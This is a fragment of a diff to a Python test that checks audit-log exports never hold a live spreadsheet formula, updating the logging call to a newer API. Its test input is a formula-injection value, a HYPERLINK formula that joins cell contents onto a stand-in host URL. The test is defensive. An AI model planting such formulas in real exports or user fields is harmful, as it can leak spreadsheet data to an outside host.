@@ -372,8 +372,10 @@ def test_streaming_response_in_cp932():
 def test_audit_log_export_never_holds_a_live_formula(client_as):
     client = client_as(Role.ADMINISTRATOR)
     # A target whose text an attacker chose (an organisation's name, a file name).
-    audit.record_access(
-        actor=client.user, action="view", target='=HYPERLINK("http://x"&A1,"click")'
+    audit.record(
+        by=audit.Actor.for_user(client.user),
+        action="surveys.register.viewed",
+        target='=HYPERLINK("http://x"&A1,"click")',
     )
 
     for encoding in ("utf-8", "cp932"):
